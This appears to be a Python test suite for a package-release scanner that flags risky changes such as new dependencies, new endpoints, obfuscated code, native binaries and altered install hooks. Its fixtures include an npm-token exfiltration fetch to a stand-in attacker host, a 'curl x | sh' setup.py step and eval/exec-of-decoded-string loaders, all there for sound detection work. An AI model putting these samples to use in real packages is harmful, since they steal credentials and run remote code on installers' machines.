"""What changed, in terms of risk (watcher/scanning/checks/changes.py): each rule against a baseline
built at test time, its quiet cases, the origin raise, and manifests stored before facts were kept."""

from __future__ import annotations

import base64
import json
import os
import random
from pathlib import Path

from tests.builders import npm_tarball, sdist, wheel
from watcher.model import Category, Finding, Manifest, Severity
from watcher.scanning.checks.changes import (
    _RUN_DECODED,
    _first_decoded_run,
    comparable_path,
    domain_of,
    raise_with_origin,
)
from watcher.scanning.scan import (
    ScanRequest,
    compare_with_baseline,
    scan,
    scan_artifact,
    scan_release,
)
from watcher.store.sqlite.codec import decode_manifest, encode_manifest


def _changes(
    tmp_path: Path,
    before: dict[str, bytes | str],
    after: dict[str, bytes | str],
    *,
    before_json: dict[str, object] | None = None,
    after_json: dict[str, object] | None = None,
    rule: str,
) -> list[Finding]:
    a = npm_tarball(tmp_path / "a.tgz", before, version="1.0.0", package_json=before_json)
    b = npm_tarball(tmp_path / "b.tgz", after, version="1.0.1", package_json=after_json)
    report = scan(ScanRequest(b), ScanRequest(a))
    return [f for f in report.findings if f.rule == rule]


# -- dependency-added ----------------------------------------------------------------------------


def test_new_npm_dependency_is_medium_and_a_version_bump_is_nothing(tmp_path: Path) -> None:
    [finding] = _changes(
        tmp_path,
        {},
        {},
        before_json={"dependencies": {"left-pad": "^1.0.0"}, "devDependencies": {"x": "1"}},
        after_json={
            "dependencies": {"left-pad": "^1.3.0", "plain-crypto-js": "^4.2.1"},
            "devDependencies": {"x": "1", "jest": "30"},
        },
        rule="dependency-added",
    )
    assert finding.severity is Severity.MEDIUM
    assert finding.category is Category.UNEXPECTED_CONTENT
    assert "plain-crypto-js ^4.2.1" in finding.message
    assert [d["dependency"] for d in finding.evidence["dependencies"]] == ["plain-crypto-js"]
    # the version bump of left-pad and the new devDependency are not dependency changes
    assert "left-pad" not in finding.message and "jest" not in finding.message


def test_dependency_switched_to_a_git_url_is_reported(tmp_path: Path) -> None:
    [finding] = _changes(
        tmp_path,
        {},
        {},
        before_json={"optionalDependencies": {"helper": "^2.0.0"}},
        after_json={"optionalDependencies": {"helper": "git+https://git.example.net/x/helper.git"}},
        rule="dependency-added",
    )
    assert finding.severity is Severity.MEDIUM
    [item] = finding.evidence["dependencies"]
    assert item["source"] == "git" and item["previous_source"] == "registry"


def test_own_scope_dependencies_are_low(tmp_path: Path) -> None:
    a = npm_tarball(tmp_path / "a.tgz", {}, name="@acme/cli", version="1.0.0")
    b = npm_tarball(
        tmp_path / "b.tgz",
        {},
        name="@acme/cli",
        version="2.0.0",
        package_json={"optionalDependencies": {"@acme/cli-linux-x64": "2.0.0"}},
    )
    [finding] = [
        f for f in scan(ScanRequest(b), ScanRequest(a)).findings if f.rule == "dependency-added"
    ]
    assert finding.severity is Severity.LOW


def test_unchanged_dependencies_are_quiet(tmp_path: Path) -> None:
    deps = {"dependencies": {"a": "^1", "b": "github:user/b"}}
    assert (
        _changes(tmp_path, {}, {}, before_json=deps, after_json=deps, rule="dependency-added") == []
    )


def test_requires_dist_added_in_wheel_metadata(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a = wheel(tmp_path / "a", {"demo_pkg/__init__.py": ""}, metadata="Requires-Dist: requests>=2\n")
    b = wheel(
        tmp_path / "b",
        {"demo_pkg/__init__.py": ""},
        version="1.0.1",
        metadata="Requires-Dist: Requests>=2.1\nRequires-Dist: evil_helper @ https://files.example.net/e.whl\n"
        'Requires-Dist: pytest; extra == "test"\n',
    )
    found = [
        f for f in scan(ScanRequest(b), ScanRequest(a)).findings if f.rule == "dependency-added"
    ]
    by_severity = {f.severity: f for f in found}
    assert set(by_severity) == {Severity.MEDIUM, Severity.LOW}
    [risky] = by_severity[Severity.MEDIUM].evidence["dependencies"]
    assert risky["dependency"] == "evil-helper" and risky["source"] == "url"
    [extra] = by_severity[Severity.LOW].evidence["dependencies"]
    assert extra["dependency"] == "pytest" and extra["scope"] == "extra"


def test_requires_dist_in_sdist_pkg_info(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a = sdist(tmp_path / "a", {"setup.py": ""})
    b = sdist(tmp_path / "b", {"setup.py": ""}, version="1.0.1")
    # PKG-INFO with a Requires-Dist header: rebuild b with it
    import tarfile  # noqa: PLC0415

    with tarfile.open(b, "w:gz") as archive:
        data = b"Metadata-Version: 2.2\nName: demo_pkg\nVersion: 1.0.1\nRequires-Dist: colorama\n\n"
        info = tarfile.TarInfo("demo_pkg-1.0.1/PKG-INFO")
        info.size = len(data)
        import io  # noqa: PLC0415

        archive.addfile(info, io.BytesIO(data))
    [finding] = [
        f for f in scan(ScanRequest(b), ScanRequest(a)).findings if f.rule == "dependency-added"
    ]
    assert "colorama" in finding.message and finding.severity is Severity.MEDIUM


# -- endpoint-added --------------------------------------------------------------------------------


def test_new_host_in_code_is_listed(tmp_path: Path) -> None:
    before = {"index.js": "fetch('https://api.service.example.net/v1')\n"}
    after = {
        "index.js": "fetch('https://api.service.example.net/v2');"
        "fetch('https://cdn.service.example.net/x');"  # same domain: known
        "fetch('https://exfil.attacker.example.io/c?d=' + process.env.NPM_TOKEN)\n",
    }
    [finding] = _changes(tmp_path, before, after, rule="endpoint-added")
    assert finding.severity is Severity.MEDIUM
    assert finding.evidence["hosts"] == ["exfil.attacker.example.io"]
    assert "exfil.attacker.example.io" in finding.message


def test_hosts_in_docs_tests_and_well_known_hosts_are_quiet(tmp_path: Path) -> None:
    after = {
        "README.md": "see https://docs.newthing.example.org/",
        "test/a.test.js": "fetch('https://mock.server.example.io/')",
        "index.js": "// https://github.com/x/y/issues/1 https://developer.mozilla.org/x "
        "http://localhost:3000 https://www.example.com/ https://a.test/ http://10.0.0.1/\n"
        "var ns = {inkscape: 'http://www.inkscape.org/namespaces/inkscape', "
        "xmp: 'http://ns.adobe.com/xap/1.0/'}\n",
    }
    assert _changes(tmp_path, {"index.js": ""}, after, rule="endpoint-added") == []


def test_links_in_comments_are_documentation(tmp_path: Path) -> None:
    after = {
        "dom.js": "/**\n * @see https://www.smashing.example.io/2019/04/article/\n */\n"
        "// https://blog.vendor.example.io/why\nexport const a = 1\n",
        "util.py": "# https://wiki.team.example.io/page\nx = 1\n",
    }
    assert _changes(tmp_path, {"dom.js": ""}, after, rule="endpoint-added") == []


def test_a_host_the_release_also_documents_is_low(tmp_path: Path) -> None:
    after = {
        "README.md": "Now reports to https://telemetry.vendor.example.io (opt out: X=0)",
        "index.js": "post('https://telemetry.vendor.example.io/v1')",
    }
    [finding] = _changes(tmp_path, {"index.js": ""}, after, rule="endpoint-added")
    assert finding.severity is Severity.LOW


def test_domains_of_country_code_second_levels() -> None:
    assert domain_of("a.b.example.co.uk") == "example.co.uk"
    assert domain_of("x.api.example.io") == "example.io"


# -- code-obfuscated -------------------------------------------------------------------------------


def test_eval_atob_added_to_an_existing_file(tmp_path: Path) -> None:
    before = {"lib/util.js": "module.exports = function add(a, b) { return a + b }\n"}
    after = {
        "lib/util.js": before["lib/util.js"] + "eval(atob('Y29uc29sZS5sb2coMSk='))\n",
    }
    [finding] = _changes(tmp_path, before, after, rule="code-obfuscated")
    assert finding.severity is Severity.MEDIUM
    assert finding.evidence["kind"] == "runs-decoded-string"
    assert finding.line == 2


def test_obfuscation_the_baseline_had_is_not_new(tmp_path: Path) -> None:
    packed = {"dist/app.js": "new Function(atob(s))()\n"}
    renamed = {"dist/app.js": "new Function(atob(s))(); var v = 2\n"}
    assert _changes(tmp_path, packed, renamed, rule="code-obfuscated") == []


def test_python_exec_of_decoded_code(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a = wheel(tmp_path / "a", {"demo_pkg/__init__.py": "x = 1\n"})
    b = wheel(
        tmp_path / "b",
        {"demo_pkg/__init__.py": "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n"},
        version="1.0.1",
    )
    [finding] = [
        f for f in scan(ScanRequest(b), ScanRequest(a)).findings if f.rule == "code-obfuscated"
    ]
    assert finding.evidence["kind"] == "runs-decoded-string"


def test_escaped_string_table_and_obfuscator_names(tmp_path: Path) -> None:
    table = ",".join("'" + "".join(f"\\x{b:02x}" for b in os.urandom(6)) + "'" for _ in range(40))
    names = ";".join(f"var _0x{i:04x}=_0x{i + 1:04x}" for i in range(40))
    after = {"index.js": f"var _t=[{table}];{names}\n"}
    found = _changes(tmp_path, {"index.js": "var a = 1\n"}, after, rule="code-obfuscated")
    assert {f.evidence["kind"] for f in found} == {"escaped-string-table", "obfuscator-identifiers"}


def test_high_entropy_blob_but_not_a_data_uri_or_wasm(tmp_path: Path) -> None:
    blob = base64.b64encode(os.urandom(6000)).decode()
    after = {
        "a.js": f'var p="{blob}";\n',
        "b.js": f'var img="data:image/png;base64,{blob}";\n',
        "c.js": f'var w="AGFzbQ{blob}";\n',
    }
    found = _changes(tmp_path, {}, after, rule="code-obfuscated")
    assert [(f.path, f.evidence["kind"]) for f in found] == [("package/a.js", "high-entropy-blob")]


def test_minified_code_is_not_a_blob(tmp_path: Path) -> None:
    minified = ";".join(f"function f{i}(a,b){{return a*{i}+b.x{i}}}" for i in range(2000))
    assert _changes(tmp_path, {}, {"m.js": minified + "\n"}, rule="code-obfuscated") == []


# -- binary-added ----------------------------------------------------------------------------------


def _elf(payload: bytes) -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\0" * 9 + payload


def test_new_native_binary(tmp_path: Path) -> None:
    [finding] = _changes(
        tmp_path,
        {"index.js": ""},
        {"index.js": "", "bin/helper": _elf(b"x" * 100)},
        rule="binary-added",
    )
    assert finding.severity is Severity.MEDIUM and finding.evidence["format"] == "ELF"


def test_rebuilt_binary_and_new_python_version_wheels_are_not_new(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a = [
        wheel(
            tmp_path / "a",
            {"demo_pkg/_core.cpython-312-x86_64-linux-gnu.so": _elf(b"1")},
            tag="cp312-cp312-manylinux_2_28_x86_64",
        )
    ]
    b = [
        wheel(
            tmp_path / "b",
            {"demo_pkg/_core.cpython-312-x86_64-linux-gnu.so": _elf(b"2")},
            version="1.0.1",
            tag="cp312-cp312-manylinux_2_28_x86_64",
        ),
        wheel(
            tmp_path / "b",
            {"demo_pkg/_core.cpython-314-x86_64-linux-gnu.so": _elf(b"3")},
            version="1.0.1",
            tag="cp314-cp314-manylinux_2_28_x86_64",
        ),
    ]
    report = scan_release(
        [ScanRequest(p) for p in b], [ScanRequest(p) for p in a], prefix_paths=True
    )
    assert [f for f in report.findings if f.rule == "binary-added"] == []


def test_comparable_paths() -> None:
    assert (
        comparable_path("x-1.0-cp39-cp39-win_amd64.whl/pkg/_a.cp39-win_amd64.pyd") == "pkg/_a.pyd"
    )
    assert comparable_path("pkg.libs/libopenblas64_p-r0-0cf96a72.3.23.dev.so") == comparable_path(
        "pkg.libs/libopenblas64_p-r0-17a8e9b1.3.23.dev.so"
    )
    assert comparable_path("package/dist/chunk-BxvNo5o6.js") == "package/dist/chunk-*.js"
    # the free-threaded stable ABI (`abi3t`, new wheels for a new Python) is the same module: seen
    # on the precision corpus re-run (cryptography's cp315 wheels)
    assert comparable_path(
        "x-2.0-cp315-abi3.abi3t-manylinux_2_34_x86_64.whl/pkg/_rust.abi3t.so"
    ) == comparable_path("x-1.0-cp311-abi3-manylinux_2_34_x86_64.whl/pkg/_rust.abi3.so")


# -- install-hook-changed --------------------------------------------------------------------------


def test_binding_gyp_changed(tmp_path: Path) -> None:
    gyp = json.dumps({"targets": [{"target_name": "a", "sources": ["a.cc"]}]})
    evil = json.dumps({"targets": [{"target_name": "a", "actions": [{"action": ["sh", "x"]}]}]})
    [finding] = _changes(
        tmp_path, {"binding.gyp": gyp}, {"binding.gyp": evil}, rule="install-hook-changed"
    )
    assert finding.category is Category.INSTALL_HOOK and finding.severity is Severity.MEDIUM
    assert (
        _changes(tmp_path, {"binding.gyp": gyp}, {"binding.gyp": gyp}, rule="install-hook-changed")
        == []
    )


def test_setup_py_side_effects_changed_with_the_same_calls(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    old = "import subprocess\nsubprocess.check_call(['make', 'ext'])\nsetup()\n"
    new = "import subprocess\nsubprocess.check_call(['sh', '-c', 'curl x | sh'])\nsetup()\n"
    a = sdist(tmp_path / "a", {"setup.py": old})
    b = sdist(tmp_path / "b", {"setup.py": new}, version="1.0.1")
    report = scan(ScanRequest(b), ScanRequest(a))
    [finding] = [f for f in report.findings if f.rule == "install-hook-changed"]
    assert finding.path == "demo_pkg-1.0.1/setup.py" or finding.path.endswith("/setup.py")
    # the existing rule's calls did not change, so it is not new on its own
    [side] = [f for f in report.findings if f.rule == "setup-py-side-effects"]
    assert side.new is False
    b2 = sdist(tmp_path / "b", {"setup.py": old + "# edited\n"}, version="1.0.2")
    quiet = scan(ScanRequest(b2), ScanRequest(a))
    assert [f for f in quiet.findings if f.rule == "install-hook-changed"] == []


# -- origin raise, stored manifests ----------------------------------------------------------------


def test_an_origin_finding_raises_medium_changes_to_high() -> None:
    change = Finding("endpoint-added", Category.UNEXPECTED_CONTENT, Severity.MEDIUM, "p", "m")
    weak = Finding("dependency-added", Category.UNEXPECTED_CONTENT, Severity.LOW, "p", "m")
    other = Finding("new-kind-of-content", Category.UNEXPECTED_CONTENT, Severity.MEDIUM, "p", "m")
    assert raise_with_origin([change, weak, other]) == []
    assert change.severity is Severity.MEDIUM
    origin = Finding("release-untagged", Category.PROVENANCE, Severity.HIGH, "p", "m")
    assert raise_with_origin([change, weak, other, origin]) == [change]
    assert change.severity is Severity.HIGH and change.evidence["raised_by"] == "release-untagged"
    assert weak.severity is Severity.LOW and other.severity is Severity.MEDIUM


def test_facts_survive_the_store_and_an_old_manifest_decides_nothing(tmp_path: Path) -> None:
    a = npm_tarball(tmp_path / "a.tgz", {"index.js": ""})
    b = npm_tarball(
        tmp_path / "b.tgz", {"index.js": "fetch('https://new.host.example.io/')"}, version="1.0.1"
    )
    base = scan_artifact(ScanRequest(a)).manifest
    stored = decode_manifest(encode_manifest(base))
    assert stored.facts == base.facts and stored.facts is not None
    found = compare_with_baseline(scan_artifact(ScanRequest(b)), stored).findings
    assert [f.rule for f in found if f.rule == "endpoint-added"] == ["endpoint-added"]
    old = Manifest(files=stored.files, fingerprints=stored.fingerprints)  # stored before facts
    assert decode_manifest(encode_manifest(old)).facts is None
    quiet = compare_with_baseline(scan_artifact(ScanRequest(b)), old).findings
    assert [f for f in quiet if f.rule == "endpoint-added"] == []


def test_the_decoded_run_finder_agrees_with_the_regex_search() -> None:
    """The word-anchored finder returns what `_RUN_DECODED.search` does: the leftmost run, a word
    inside another (`xeval(atob(`) not taken, a later one that is, several words interleaved."""
    pieces = [
        "eval(atob(x))",
        "xeval(atob(y))",
        "evaluate(",
        "Function('a', atob(z))",
        "exec(",
        "exec(base64.b64decode(s))",
        "Function(",
        "eval (unescape(q))",
        " ",
        "\n",
        "f(x);",
        "eval(function(p,a,c,k,e,",
        "eval(1)",
        "myFunction(atob(1))",
    ]
    rng = random.Random(7)
    for _ in range(500):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 12)))
        expected = _RUN_DECODED.search(text)
        found = _first_decoded_run(text)
        assert (found.span() if found else None) == (expected.span() if expected else None), text
